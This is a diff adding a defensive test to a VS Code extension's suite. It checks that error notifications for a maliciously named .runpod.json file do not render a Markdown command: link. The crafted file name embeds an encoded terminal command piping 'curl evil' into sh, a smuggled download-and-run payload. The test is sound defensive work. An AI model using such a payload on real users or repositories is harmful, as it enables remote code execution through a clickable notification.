@@ -63,3 +63,22 @@ describe('files a hostile repository plants where the extension reads', () => {
     expect(fake.reads).not.toContain('/w/train.prod.runpod.env');
   });
 });
+
+describe('a file name that is a Markdown link', () => {
+  // VS Code renders [text](target) in a notification as a link, command: targets included.
+  const LINK = '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
+  const forms = (text: string) => /\]\(command:/.test(text);
+
+  it('forms no link in the error Launch Pod and Deploy Endpoint show for its file', async () => {
+    const path = `/w/${LINK}.runpod.json`;
+    fake.files.set(path, '{ "name": ');
+    const launch = await loadTemplateFile(api, fileUri(path));
+    expect(launch).toEqual(expect.stringContaining('Not valid JSON'));
+    expect(forms(launch as string)).toBe(false);
+    const deploy = await loadDeployFile(api, fileUri(path), []);
+    expect(deploy).toEqual(expect.any(String));
+    expect(forms(deploy as string)).toBe(false);
+    fake.stats.set(path, SPECIAL.fifo);
+    expect(forms((await loadTemplateFile(api, fileUri(path))) as string)).toBe(false);
+  });
+});
